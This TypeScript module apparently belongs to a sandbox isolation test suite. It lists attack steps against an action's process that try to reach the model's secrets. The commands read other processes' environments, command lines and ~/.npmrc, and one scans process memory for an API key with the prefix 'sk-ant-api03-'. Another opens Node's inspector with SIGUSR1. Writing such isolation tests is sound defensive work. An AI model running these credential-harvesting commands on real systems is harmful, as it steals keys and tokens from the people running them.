import { readFileSync } from 'node:fs';
import type { RoomAttack } from '../room-attacks.ts';
import { family, has, node, says, strongest, up } from '../room-attacks.ts';

const { move } = family('process');

/** Looks for the model's key in all the memory of a process that may be written, some hundred megabytes at most. */
const searchMemory = `const fs = require("fs"); const p = process.argv[1]; const f = fs.openSync("/proc/" + p + "/mem"); let left = 3e8;
for (const l of fs.readFileSync("/proc/" + p + "/maps", "utf8").split("\\n")) {
  const m = /^(\\w+)-(\\w+) rw/.exec(l); if (!m) continue;
  const [a, b] = [parseInt(m[1], 16), parseInt(m[2], 16)]; const n = b - a; if (n > 64e6 || n > left) continue;
  left -= n; const bytes = Buffer.alloc(n); try { fs.readSync(f, bytes, 0, n, a); } catch { continue; }
  const at = bytes.indexOf("sk-ant-api03-"); if (at >= 0) { console.log(bytes.toString("latin1", at, at + 60)); break; } }`;

/** Node opens its inspector some time after the signal. */
const inspector = `const look = (left) => require("http").get("http://127.0.0.1:9229/json/list", (r) => r.pipe(process.stdout)).on("error", () => left && setTimeout(look, 50, left - 1)); look(20)`;

const toAction = (signal: string, then = ''): string =>
  up(`if grep -qa dist/index.js /proc/$p/cmdline; then kill -${signal} $p ${then}; fi`);

/** Of this very process, which stands for another step of the job. */
const commandLine = readFileSync('/proc/self/cmdline', 'latin1').replaceAll('\0', ' ').trim();

/** What other processes hold: their environments, memory, files and command lines, and what a signal does to them. */
export const processes: readonly RoomAttack[] = [
  move('B9 B1', 'env, in the shell', 'env', strongest),
  move('B1', '/proc/self/environ', "cat /proc/self/environ | tr '\\0' '\\n'"),
  move('B2', 'environ of every process up to the action', up("tr '\\0' '\\n' < /proc/$p/environ"), strongest),
  move('B2', 'environ of every thread of them', up("cat /proc/$p/task/*/environ | tr '\\0' '\\n'")),
  move('B3', 'ps e of every process up to the action', up('ps eww -o command= -p $p'), {
    stoppedByMachine: () => !has('ps'),
  }),
  move(
    'B2',
    'command lines up to the action',
    up("tr '\\0' ' ' < /proc/$p/cmdline"),
    says(/dist\/index\.js/),
  ),
  move('B3', 'another step’s process, by its number', `tr '\\0' ' ' < /proc/${process.pid}/cmdline`, {
    won: ({ text }) => text.includes(commandLine),
  }),
  move('B4', 'root directory of the action’s process', (machine) =>
    up(`cat /proc/$p/root${machine.home}/.npmrc`),
  ),
  move(
    'B4',
    'open files of the action’s process',
    up('ls -l /proc/$p/fd | grep -c socket; readlink /proc/$p/exe /proc/$p/cwd'),
    { won: ({ text, machine }) => text.includes(machine.workspace) },
  ),
  move('B4', 'memory of the action’s process', up(node(searchMemory, '$p')), strongest),
  move('B6', 'SIGUSR1 to the action, for Node’s inspector', `${toAction('USR1')}; ${node(inspector)}`, {
    ...says(/webSocketDebuggerUrl/),
    ...strongest,
  }),
  move('B6 B4', 'a signal to the action', toAction('CONT', '&& echo SIGNALLED'), says(/SIGNALLED/)),
];
